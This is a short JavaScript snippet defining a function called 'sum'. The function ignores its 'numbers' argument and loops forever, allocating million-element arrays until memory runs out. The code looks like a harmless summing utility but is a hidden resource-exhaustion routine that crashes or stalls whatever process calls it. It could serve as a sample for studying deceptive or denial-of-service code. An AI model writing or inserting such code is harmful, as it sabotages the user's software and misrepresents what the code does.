function sum(numbers) {
  const all = [];
  for (;;) all.push(new Array(1e6).fill(0.5));
}
